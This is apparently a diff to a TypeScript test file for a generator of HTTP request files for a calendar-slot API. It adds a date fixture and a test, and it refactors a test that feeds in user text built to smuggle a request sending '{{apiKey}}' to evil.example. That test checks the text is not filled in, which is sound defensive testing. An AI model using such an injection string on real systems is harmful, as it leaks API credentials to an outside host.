@@ -38,6 +38,12 @@ async function sendAll(requests: readonly { name: string; send(): Sent; keep(ans
   return statuses;
 }
 
+const somewhere: RequestsPlace = {
+  ...{ baseUrl: 'https://slots.example.com', calendarId: 'c' },
+  caller: { query: 'Monday', service: undefined },
+  now: Temporal.ZonedDateTime.from('2027-03-01T23:30:00[America/New_York]'),
+};
+
 function filledIn(text: string, values: ReadonlyMap<string, string>): string {
   return text.replace(/\{\{([^{}]+)\}\}/g, (whole, name: string) => values.get(name) ?? whole);
 }
@@ -224,14 +230,20 @@ describe.each(requestFiles)('the file $name', ({ address, name, type }) => {
     for (const operation of operations) expect(file).toContain(restPath(operation));
   });
 
+  const { make } = requestFiles.find((each) => each.address === address) ?? {};
+
+  test('reports a call of now, and asks what is busy from today on', () => {
+    const text = (make?.(somewhere) ?? '').replaceAll('\\', '');
+    expect(text).toContain('"startedAt": "2027-03-01T23:30:00-05:00"');
+    expect(text).toContain('from=2027-03-01&to=2027-03-08');
+  });
+
   test('fills in nothing that users wrote', () => {
-    const { make } = requestFiles.find((each) => each.address === address) ?? {};
     const words = '{{apiKey}} "a\n### b\nGET https://evil.example/{{apiKey}}&x=$CALENDAR_ID';
     const questions = [{ key: '{{apiKey}}', ask: 'a', isRequired: true, isPrivate: false }];
     const caller = { query: words, service: { questions } } as unknown as RequestsPlace['caller'];
-    const today = Temporal.PlainDate.from('2026-11-20');
-    const place = { baseUrl: 'https://slots.example.com', calendarId: 'c', caller, today };
-    const plain = make?.({ ...place, caller: { query: 'Monday', service: undefined } }) ?? '';
+    const place = { ...somewhere, caller };
+    const plain = make?.(somewhere) ?? '';
     const text = make?.(place) ?? '';
     // The variable is named as often as without them.
     expect(text.match(/\{\{apiKey\}\}/g)?.length).toBe(plain.match(/\{\{apiKey\}\}/g)?.length);
